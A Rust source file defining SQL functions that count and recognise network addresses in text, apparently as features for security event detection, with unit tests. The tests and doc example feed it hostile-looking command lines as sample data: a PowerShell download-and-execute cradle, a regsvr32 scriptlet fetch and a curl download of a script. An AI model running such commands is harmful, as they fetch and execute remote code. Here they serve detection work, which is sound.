//! `address_count`: the addresses of other machines in a text. `is_address` asks the same of a whole text.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::LazyLock;

use arrow::datatypes::{DataType, Int64Type};
use datafusion::common::Result;
use datafusion::common::utils::take_function_args;
use datafusion::logical_expr::{ColumnarValue, ScalarFunctionArgs, ScalarUDFImpl};
use datafusion_macros::user_doc;
use regex::Regex;

use super::arguments::scalar_function;
use super::text;

#[user_doc(
    doc_section(label = "Event features"),
    description = r"The number of addresses in a text: URLs (`http`, `https`, `ftp`, `ws`, `wss`), shares (`\\server\share`), and IPv4 and IPv6 addresses that stand alone. An address inside a URL is not counted again. Four numbers with points, such as those of a version, are an address if none of them is above 255. The machine's own, such as 127.0.0.1, does not count outside of a URL.",
    syntax_example = "address_count(s)",
    sql_example = r"```sql
> SELECT address_count('curl http://10.0.0.5/a.ps1 -o \\fs\tools\a.ps1') AS two, address_count('ipconfig /all') AS none;
+-----+------+
| two | none |
+-----+------+
| 2   | 0    |
+-----+------+
```",
    argument(name = "s", description = "String to look at."),
    related_udf(name = "is_address"),
    related_udf(name = "cmdline_template")
)]
#[derive(Debug, PartialEq, Eq, Hash)]
pub(super) struct AddressCount;

impl ScalarUDFImpl for AddressCount {
    scalar_function!("address_count"("s": String) -> DataType::Int64);

    fn invoke_with_args(&self, args: ScalarFunctionArgs) -> Result<ColumnarValue> {
        let [s] = take_function_args(self.name(), args.args)?;
        text::map_primitive::<Int64Type>(&s, |s| addresses(s).count() as i64)
    }
}

/// Returns the addresses of a text, from left to right.
pub(crate) fn addresses(text: &str) -> impl Iterator<Item = &str> {
    // The form of an address; `is_ip` decides about numbers. A share has no `?` or `.` for a server: those are devices.
    static LIKE_ADDRESSES: LazyLock<Regex> = LazyLock::new(|| {
        let pattern = concat!(
            r#"(?i)\b(?:https?|ftp|wss?)://[^\s"'<>|`]+"#,
            r#"|(?:^|[\s"'=(,;])\\\\[[:alnum:]][^\s"'<>|\\]*\\[^\s"'<>|]*"#,
            r"|\[?[0-9a-f]*:[0-9a-f:]*:[0-9a-f:.]*\]?",
            r"|[0-9]+(?:\.[0-9]+)+",
        );
        #[expect(clippy::unwrap_used, reason = "a constant that the tests compile")]
        let like_addresses = Regex::new(pattern).unwrap();
        like_addresses
    });
    LIKE_ADDRESSES.find_iter(text).filter_map(move |found| {
        let like = found.as_str();
        if is_of_this_machine(like) {
            return None;
        }
        if like.contains("://") || like.contains(r"\\") {
            return Some(like.trim_start_matches(|c: char| c != '\\' && !c.is_ascii_alphanumeric()));
        }
        let goes_on = |c: Option<char>| c.is_some_and(|c| c.is_alphanumeric() || c == '_');
        let (before, behind) = (&text[..found.start()], &text[found.end()..]);
        let alone = !goes_on(before.chars().next_back()) && !goes_on(behind.chars().next());
        (alone && is_ip(like.trim_matches(['[', ']']).trim_end_matches('.'))).then_some(like)
    })
}

/// Whether an address of numbers leads nowhere else: the loopback, and the address of none.
fn is_of_this_machine(like: &str) -> bool {
    let ip = like.trim_matches(['[', ']']).trim_end_matches('.').parse::<IpAddr>();
    ip.is_ok_and(|ip| ip.is_loopback() || ip.is_unspecified())
}

fn is_ip(text: &str) -> bool {
    text.parse::<Ipv4Addr>().is_ok() || text.len() > 2 && text.parse::<IpAddr>().is_ok()
}

/// Whether all of a text is one address, with or without a port or the length of a prefix.
pub(super) fn is_address(text: &str) -> bool {
    let text = text.trim();
    let without_prefix = match text.rsplit_once('/') {
        Some((address, length)) if length.parse::<u8>().is_ok_and(|length| length <= 128) => address,
        _ => text,
    };
    without_prefix.parse::<IpAddr>().is_ok()
        || text.parse::<SocketAddr>().is_ok()
        || addresses(text).next() == Some(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn addresses_are_found() {
        for (text, expected) in [
            ("", vec![]),
            ("ping -n 4 10.1.2.3", vec!["10.1.2.3"]),
            ("10.1.2.3:8080", vec!["10.1.2.3"]),
            ("v1.2.3.4 1.2.3.4.5 1.2.3.400 1.2.3", vec![]),
            (
                "IEX(New-Object Net.WebClient).DownloadString('http://10.0.0.1/a/b.ps1');",
                vec!["http://10.0.0.1/a/b.ps1"],
            ),
            ("/i:https://x.example/a.sct scrobj.dll", vec!["https://x.example/a.sct"]),
            (r"net use \\fs01\share$ /y", vec![r"\\fs01\share$"]),
            ("http://127.0.0.1/a 127.0.0.1 ::1 0.0.0.0", vec!["http://127.0.0.1/a"]),
            (r"\\.\pipe\x \\?\C:\a \??\C:\b", vec![]),
            (r"C:\\double\\back", vec![]),
            ("fe80::1%eth0 ::2 [2001:db8::2]:443", vec!["fe80::1", "::2", "[2001:db8::2]"]),
            ("12:34:56 a::b::c :: std::net", vec![]),
            ("é10.0.0.1", vec![]),
        ] {
            assert_eq!(addresses(text).collect::<Vec<_>>(), expected, "{text}");
        }
    }

    #[test]
    fn whole_texts_are_addresses() {
        for text in
            ["10.0.0.1", " 10.0.0.1 ", "10.0.0.0/8", "::1", "[::1]:80", "1.2.3.4:80", "http://a/b", r"\\s\x"]
        {
            assert!(is_address(text), "{text}");
        }
        for text in ["", "host", "10.0.0", "10.0.0.1 a", "see http://a/b", "10.0.0.1/x", "1"] {
            assert!(!is_address(text), "{text}");
        }
    }
}
